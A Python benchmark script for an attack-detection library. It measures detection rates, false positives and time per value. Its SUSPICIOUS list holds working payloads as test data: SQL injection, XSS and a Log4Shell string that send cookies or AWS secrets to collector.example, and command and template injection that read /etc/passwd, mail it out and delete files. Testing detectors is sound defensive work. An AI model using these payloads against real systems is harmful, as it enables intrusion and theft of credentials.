"""How many attacks are found, how many ordinary values are mistaken for one, and what a look costs.

    python -m benchmarks.detection [--data PATH] [--sets FOLDER] [--misses]

Measured are the corpus beside this file and, with --data, a CSV with the columns payload and attack_type (norm, sqli,
xss, path-traversal, cmdi); with --sets whole requests, places and encodings, padding and innocent sources, as
benchmarks/detection_sets.py says. Nothing of the detection is learned from data: the functions are the same for every
fold, so that five folds tell the spread of a rate, not what an unseen set would give.
"""

from __future__ import annotations

import argparse
import csv
import statistics
import sys
import time
import timeit
from collections import defaultdict
from collections.abc import Iterable, Iterator
from functools import partial
from pathlib import Path

from benchmarks import detection_sets
from metlo_otel.analysis.attacks import Finding, detect, inspect

CORPUS = Path(__file__).parent / "corpus"
ORDINARY_KIND = "benign"
CATEGORY = {
    "norm": ORDINARY_KIND,
    "sqli": "SQLI",
    "xss": "XSS",
    "path-traversal": "DIRECTORY_TRAVERSAL",
    "cmdi": "COMMAND_EXECUTION",
}
FOLDS = 5
ROUNDS, LOOKS = 100, 50  # at a value
ORDINARY = (
    "maria.garcia-lopez@example.com",
    "jo.smith+newsletter@example.org",
    "Calle de la Princesa 31, 4º izq",
    "Apt. #4, 12 St. James's Street",
    "O'Brien & Sons (Dublin) 2024-5",
    "https://example.com/items/4711",
    "/products/shoes?sort=asc&page=2",
    "5f1d7e2a-3b0c-4c1e-9d5f-7a6b8c",
    "2024-05-17T10:15:00.000+02:00",
    "a quite ordinary search phrase",
    '"red shoes" -leather (size 42)',
    'rock & roll, soul and "the blues"',
    "Price: $1,299.00 (incl. VAT)!",
    "C++ developer / remote (EU only)",
    "size=42; color=blue; brand=Acme",
    "application/json; charset=utf-8",
)
SUSPICIOUS = (
    "1' AND 7756=(SELECT COUNT(*) FROM information_schema.tables AS t1, sysusers AS t2) AND 'fo'='fo' -- x",
    "-1' UNION ALL SELECT NULL,CONCAT(0x7171,IFNULL(CAST(password AS CHAR),0x20)),NULL FROM users LIMIT 1#",
    '"><img src=x onerror="fetch(`https://collector.example/?c=${document.cookie}`)"><b title="some text">',
    "javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))//<svg/onload=top['al'+'ert'](document.domain)>",
    "Dear team; the meeting (see 'agenda' & notes) is at 10:30 = half past ten; \"bring\" <your> laptop",
    "127.0.0.1; cat /etc/passwd | mail -s 'found it' somebody@example.com && rm -rf /tmp/traces_of_what_i_",
    "/static/../../../../../../../../../../../../../../../../../../../../../../../var/log/apache2/access.log",
    "{{ ''.__class__.__mro__[1].__subclasses__()[407]('cat /etc/passwd', shell=True, stdout=-1).read() }} x",
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><user><name>&b;</name></user>',
    "${${lower:j}ndi:${lower:l}dap://collector.example:1389/${env:AWS_SECRET_ACCESS_KEY}/a} and ordinary text",
    "admin*)(|(objectClass=*))(&(uid=admin)(userPassword=*)) and a few more words behind it to make it long",
    "%253Cscript%253Efetch%2528%2527%252F%252Fcollector.example%252F%2527%252Bdocument.cookie%2529%253C%252Fscript",
)

Labelled = Iterable[tuple[str, str]]


def main() -> None:
    """Print the rates and the times."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--data", type=Path)
    parser.add_argument("--sets", type=Path)
    parser.add_argument("--misses", action="store_true", help="print what was missed or mistaken")
    options = parser.parse_args()
    if options.data is not None:
        rates(options.data.name, from_csv(options.data), options.misses)
    rates("the corpus", from_folder(CORPUS), options.misses)
    rates("the corpus, written later", from_folder(CORPUS / "later"), options.misses)
    rates("the corpus, written by somebody new", from_folder(CORPUS / "third"), options.misses)
    mistaken_headers(options.misses)
    times("ordinary, 30 characters", ORDINARY)
    times("suspicious, about 100 characters", SUSPICIOUS)
    if options.sets is not None and detection_sets.measure(options.sets, misses=10 if options.misses else 0):
        sys.exit(1)


def rates(title: str, labelled: Labelled, misses: bool) -> None:
    """True and false positives by category, over all and as the range of five folds, and the time a value takes."""
    values = defaultdict(list)
    for kind, value in labelled:
        values[kind].append(value)
    print(f"{title}:")
    for kind in sorted(values, key=lambda kind: (kind == ORDINARY_KIND, kind)):
        began = time.process_time()
        found = [_right(kind, inspect(value)) for value in values[kind]]
        spent = (time.process_time() - began) / len(found) * 1e6
        _row(kind, found, spent)
        if misses:
            wrong = [
                value for value, right in zip(values[kind], found, strict=True) if (not right) != (kind == "benign")
            ]
            print("".join(f"      {value[:150]!r}\n" for value in wrong), end="")


def _right(kind: str, findings: tuple[Finding, ...]) -> list[Finding]:
    """The findings that count: those of the value's own category, of an ordinary value all."""
    return [finding for finding in findings if kind in (ORDINARY_KIND, finding.category)]


def _row(kind: str, found: list[list[Finding]], spent: float) -> None:
    folds = [_share(found[number::FOLDS]) for number in range(FOLDS)]
    certain = [[finding for finding in each if finding.confidence == "high"] for each in found]
    label = "mistaken" if kind == ORDINARY_KIND else "found"
    print(
        f"  {kind:20} {label:8} {sum(map(bool, found)):6} of {len(found):6} = {_share(found):8.3%}"
        f"  (folds {min(folds):.1%} to {max(folds):.1%})  certain {_share(certain):8.3%}  {spent:6.1f} µs a value"
    )


def _share(found: list[list[Finding]]) -> float:
    return sum(map(bool, found)) / max(len(found), 1)


def mistaken_headers(misses: bool) -> None:
    """How many of the headers that clients send are mistaken for attacks."""
    headers = list(from_headers(CORPUS / "headers.txt"))
    wrong = [(name, value) for name, value in headers if detect([(f"reqHeaders.{name}", value)])]
    print(f"headers that clients send: mistaken {len(wrong)} of {len(headers)}")
    if misses:
        print("".join(f"      {name}: {value[:150]!r}\n" for name, value in wrong), end="")


def times(title: str, values: tuple[str, ...]) -> float:
    """Print what a look at each value takes in CPU microseconds, then the median and the slowest, which is returned.

    A value's time is the shortest of many short rounds that are spread over the whole measurement, since whatever else
    a machine does only ever adds to it.
    """
    shortest = dict.fromkeys(values, float("inf"))
    for _ in range(ROUNDS):
        for value in values:
            spent = timeit.timeit(partial(inspect, value), timer=time.thread_time, number=LOOKS) / LOOKS * 1e6
            shortest[value] = min(shortest[value], spent)
    slowest = max(shortest.values())
    print(f"{title}: median {statistics.median(shortest.values()):.1f} µs, slowest {slowest:.1f} µs")
    for value, spent in sorted(shortest.items(), key=lambda pair: pair[1]):
        print(f"  {spent:6.1f} µs  {value[:70]!r}")
    return slowest


def from_csv(data: Path) -> Iterator[tuple[str, str]]:
    """Category and value of each row."""
    with data.open(newline="", encoding="utf-8") as lines:
        for row in csv.DictReader(lines):
            yield CATEGORY[row["attack_type"]], row["payload"]


def from_folder(folder: Path) -> Iterator[tuple[str, str]]:
    """Category and value of each line of a folder's files."""
    for path in sorted(folder.glob("*.txt")):
        if path.stem != "headers":
            for line in path.read_text("utf-8").removesuffix("\n").split("\n"):
                yield path.stem, line


def from_headers(path: Path) -> Iterator[tuple[str, str]]:
    """Name and value of each header; the first line says what the file is."""
    for line in path.read_text("utf-8").splitlines()[1:]:
        name, _, value = line.partition("\t")
        yield name, value


if __name__ == "__main__":
    main()
